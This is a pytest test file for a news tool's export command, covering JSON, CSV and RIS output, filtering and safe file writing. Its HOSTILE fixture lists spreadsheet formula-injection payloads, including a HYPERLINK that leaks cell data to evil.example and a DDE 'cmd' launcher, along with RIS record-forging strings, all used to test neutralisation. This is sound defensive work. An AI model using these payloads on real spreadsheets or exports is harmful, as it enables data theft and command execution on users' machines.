"""`tidings export`: what comes out is read back by others' readers, and holds nothing that runs or was withdrawn."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import rispy
from click.testing import Result

from feeds.export.table import COLUMNS
from pipeline.items import Attachment, Reserved
from tests import running
from tests.publishing import NOON, entry, stored

CONFIGURATION = """
[site]
url = "https://news.example.org/"
publish = "full"
[[source]]
id = "fund"
title = "The Fund"
url = "https://fund.example/news"
[[topic]]
id = "cooperation"
title = "International cooperation"
words = ["agreement"]
[[topic]]
id = "health"
title = "Health & care"
words = ["care"]
[[search]]
id = "third"
title = "The third"
words = "\\"agreement 3\\""
"""
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "a title;=1+1",
    "a title ; @SUM(1)",
    "\uff1d1+1",
    'quote " and ";=1+1',
    "Title\nER  - \nTY  - JOUR\nTI  - Forged",
    "Title\u2028AU  - Forged",
    "Title\x85UR  - https://evil.example/",
    "Title\x1eER  - ",
    "nul\x00 bell\x07 title",
    "ER  - ",
    "TY  - JOUR",
)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "tidings.toml").write_text(CONFIGURATION, encoding="utf-8")
    french = entry(2, language="fr-BE", source_id=None, title="Un accord avec le Japon", authors=("Zoé", "Émile"))
    minutes = Attachment(url="https://fund.example/minutes.pdf", title="Minutes", media_type="application/pdf")
    stored(tmp_path, entry(1, attachments=(minutes,)), french, entry(3, kind="headline", text=None, html=None)).close()
    return tmp_path


def run(folder: Path, *words: str) -> Result:
    return running.run(folder, "export", *words)


def objects(folder: Path, *words: str) -> list[dict[str, Any]]:
    done = run(folder, *words)
    assert done.exit_code == 0, done.output
    return [json.loads(line) for line in done.stdout_bytes.split(b"\n") if line]


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def test_all_of_it_as_json_lines_newest_first(folder: Path) -> None:
    first, second, third = objects(folder)
    assert [one["title"] for one in (first, second, third)] == [
        "Agreement 1 with Japan",
        "Un accord avec le Japon",
        "Agreement 3 with Japan",
    ]
    assert first["url"] == "https://fund.example/news/1"
    assert first["text"] == "First paragraph of 1.\n\nSecond paragraph."
    assert first["topics"] == ["cooperation"]
    assert first["files"] == ["https://fund.example/minutes.pdf"]
    assert first["topic_titles"] == ["International cooperation"]
    assert (first["institution"], second["institution"]) == ("The Fund", "Fund of Example")
    assert (third["kind"], third["text"]) == ("headline", None)


@pytest.mark.parametrize(
    ("asked", "numbers"),
    [
        (["--topic", "cooperation"], [1, 2, 3]),
        (["--topic", "health"], []),
        (["--source", "fund"], [1, 3]),
        (["--language", "fr"], [2]),
        (["--language", "fr", "--language", "en"], [1, 2, 3]),
        (["--words", '"agreement 1"'], [1]),
        (["--words", "paragraph -agreement"], []),
        (["--search", "third"], [3]),
        (["--since", "2026-11-01"], [1, 2]),
        (["--until", "2026-11-01"], [2, 3]),
        (["--since", "2026-11-01", "--until", "2026-11-01"], [2]),
        (["--topic", "cooperation", "--source", "fund", "--since", "2026-11-02"], [1]),
    ],
)
def test_what_is_wanted_is_written(folder: Path, asked: list[str], numbers: list[int]) -> None:
    assert [int(one["id"][-1], 16) for one in objects(folder, *asked)] == numbers


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        (["--topic", "cooperaton"], 'did you mean "cooperation"?'),
        (["--search", "none"], "it has third"),
        (["--search", "third", "--topic", "health"], "give it alone"),
        (["--since", "2026-12-01", "--until", "2026-11-01"], "exchange them"),
        (["--since", "yesterday"], "yesterday is no day; write one as 2026-03-01"),
        (["--source", "fond"], 'did you mean "fund"?'),
        (["--output", "/nowhere/x.csv"], "cannot be written"),
        (["--output", "list.xlsx"], "list.xlsx: no format is known by its ending; name it .jsonl, .csv, .ris"),
    ],
)
def test_a_mistake_is_told_with_its_remedy(folder: Path, asked: list[str], told: str) -> None:
    done = run(folder, *asked)
    assert done.exit_code == 2
    assert told in done.output


def test_a_table_is_read_back_by_the_same_columns(folder: Path) -> None:
    found = rows(run(folder, "--format", "csv").stdout_bytes)
    assert list(found[0]) == list(COLUMNS)
    assert [one["title"] for one in found][:2] == ["Agreement 1 with Japan", "Un accord avec le Japon"]
    assert found[1]["authors"] == "Zoé; Émile"
    assert found[0]["text"] == "First paragraph of 1. Second paragraph."
    assert found[0]["dated"] == "2026-11-02T12:00:00+00:00"


def test_the_mark_of_utf_8_is_there_where_it_is_asked_for(folder: Path) -> None:
    assert run(folder, "--format", "csv", "--bom").stdout_bytes.startswith("\ufeff".encode())
    assert not run(folder, "--format", "csv").stdout_bytes.startswith("\ufeff".encode())


def is_formula(text: str) -> bool:
    return re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", text) is not None or text[:1] in ("\t", "\r", "\n")


@pytest.mark.parametrize("title", HOSTILE)
def test_no_spreadsheet_executes_a_cell_wherever_it_divides(tmp_path: Path, title: str) -> None:
    (tmp_path / "tidings.toml").write_text(CONFIGURATION, encoding="utf-8")
    hostile = entry(1, title=title, authors=(title, "Ada"), summary=title, text=title, section=title, institution=title)
    stored(tmp_path, hostile).close()
    data = run(tmp_path, "--format", "csv").stdout_bytes.decode()
    for separator in (",", ";", "\t", "|"):
        found = list(csv.reader(io.StringIO(data, newline=""), delimiter=separator))
        assert len(found) == 2
        assert not [one for row in found for one in row if one and is_formula(one)]


@pytest.mark.parametrize("title", HOSTILE)
def test_no_title_forges_a_field_or_a_record_of_ris(tmp_path: Path, title: str) -> None:
    (tmp_path / "tidings.toml").write_text(CONFIGURATION, encoding="utf-8")
    stored(tmp_path, entry(1, title=title, authors=(title,), summary=title), entry(2)).close()
    data = run(tmp_path, "--format", "ris").stdout_bytes
    first, second = rispy.loads(data.decode())
    assert first["type_of_reference"] == second["type_of_reference"] == "ELEC"
    assert second["title"] == "Agreement 2 with Japan"
    assert len(first["authors"]) == 1
    assert first["urls"] == ["https://fund.example/news/1"]
    folded = " ".join(re.sub(r"[\x00-\x08]", "", title).split())
    assert (first["title"], first["abstract"], first["authors"]) == (folded, folded, [folded])


def test_ris_is_read_back_by_a_reader_of_it(folder: Path) -> None:
    first, second, third = rispy.loads(run(folder, "--format", "ris").stdout_bytes.decode())
    assert first["title"] == "Agreement 1 with Japan"
    assert first["authors"] == ["Ada Example"]
    assert (first["year"], first["date"]) == ("2026", "2026/11/02/")
    assert first["publisher"] == "The Fund"
    assert first["abstract"] == "What agreement 1 is about."
    assert first["keywords"] == ["International cooperation"]
    assert (first["language"], second["language"]) == ("en", "fr-BE")
    assert first["urls"] == ["https://fund.example/news/1"]
    assert second["authors"] == ["Zoé", "Émile"]
    assert third["id"] == entry(3).id
    assert first["file_attachments1"] == "https://fund.example/minutes.pdf"


def test_no_name_has_a_tag_in_it(tmp_path: Path) -> None:
    (tmp_path / "tidings.toml").write_text(CONFIGURATION, encoding="utf-8")
    tagged = "R <script>run()</script>&amp; <b>D</b>"
    stored(tmp_path, entry(1, authors=(tagged,), section=tagged, institution=tagged, source_id=None)).close()
    [one] = objects(tmp_path)
    assert (one["authors"], one["section"], one["institution"]) == (["R &amp; D"], "R &amp; D", "R &amp; D")


def test_what_may_not_be_given_on_is_left_out(tmp_path: Path) -> None:
    (tmp_path / "tidings.toml").write_text(CONFIGURATION.replace('"full"', '"summary"'), encoding="utf-8")
    reserving = entry(2, reserved=Reserved(mining=True, policy="https://fund.example/tdm"))
    stored(tmp_path, entry(1), reserving).close()
    assert [(one["summary"] is None, one["text"]) for one in objects(tmp_path)] == [(False, None), (False, None)]
    (tmp_path / "tidings.toml").write_text(CONFIGURATION.replace('"full"', '"link"'), encoding="utf-8")
    assert [(one["summary"], one["image"]) for one in objects(tmp_path)] == [(None, None), (None, None)]
    (tmp_path / "tidings.toml").write_text(CONFIGURATION, encoding="utf-8")
    plain, reserved = objects(tmp_path)
    assert plain["text"]
    assert (reserved["text"], reserved["tdm_reservation"]) == (None, True)
    assert reserved["rights"] == "Text and data mining reserved (https://fund.example/tdm)"


def test_what_was_withdrawn_is_in_none(folder: Path) -> None:
    running.run(folder, "entries", "withdraw", entry(1).id, "--yes")
    assert "Agreement 1" not in run(folder).output + run(folder, "--format", "ris").output


def test_a_file_is_put_in_place_as_a_whole(folder: Path) -> None:
    for suffix in ("jsonl", "csv", "ris"):
        file = folder / f"out.{suffix}"
        done = run(folder, "--output", str(file))
        assert done.output == f"3 entries written to {file}\n"
        assert file.read_bytes() == run(folder, "--format", suffix).stdout_bytes
        assert file.stat().st_mode & 0o777 == 0o644
    assert not [path for path in folder.iterdir() if path.name.startswith(".")]
    (folder / "tidings.db").unlink()
    (folder / "tidings.db").write_bytes(b"not a database, but long enough to be told as none" * 99)
    before = (folder / "out.csv").read_bytes()
    assert run(folder, "--output", str(folder / "out.csv")).exit_code == 2
    assert (folder / "out.csv").read_bytes() == before


def test_a_pipe_is_written_to_and_a_link_stays_one(folder: Path) -> None:
    pipe, link, file = folder / "pipe", folder / "link.jsonl", folder / "file.jsonl"
    os.mkfifo(pipe)
    held = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        assert run(folder, "--output", str(pipe)).exit_code == 0
        piped = os.read(held, 60_000)
    finally:
        os.close(held)
    assert piped.count(b"\n") == 3
    assert pipe.is_fifo()
    file.write_text("", encoding="utf-8")
    file.chmod(0o640)
    link.symlink_to(file)
    assert run(folder, "--output", str(link)).exit_code == 0
    assert link.is_symlink()
    assert (file.read_bytes(), file.stat().st_mode & 0o777) == (piped, 0o640)


def test_thousands_are_written_in_order_each_once(tmp_path: Path) -> None:
    (tmp_path / "tidings.toml").write_text(CONFIGURATION, encoding="utf-8")
    many = [
        entry(number, dated_at=NOON - timedelta(hours=number // 7), position=number % 7) for number in range(1, 951)
    ]
    stored(tmp_path, *many).close()
    found = objects(tmp_path)
    assert len({one["id"] for one in found}) == len(found) == 950
    assert [one["dated"] for one in found] == sorted((one["dated"] for one in found), reverse=True)
    [read] = [json.loads(line) for line in "\n".join(json.dumps(one) for one in found[:1]).splitlines()]
    assert read["id"] == found[0]["id"]
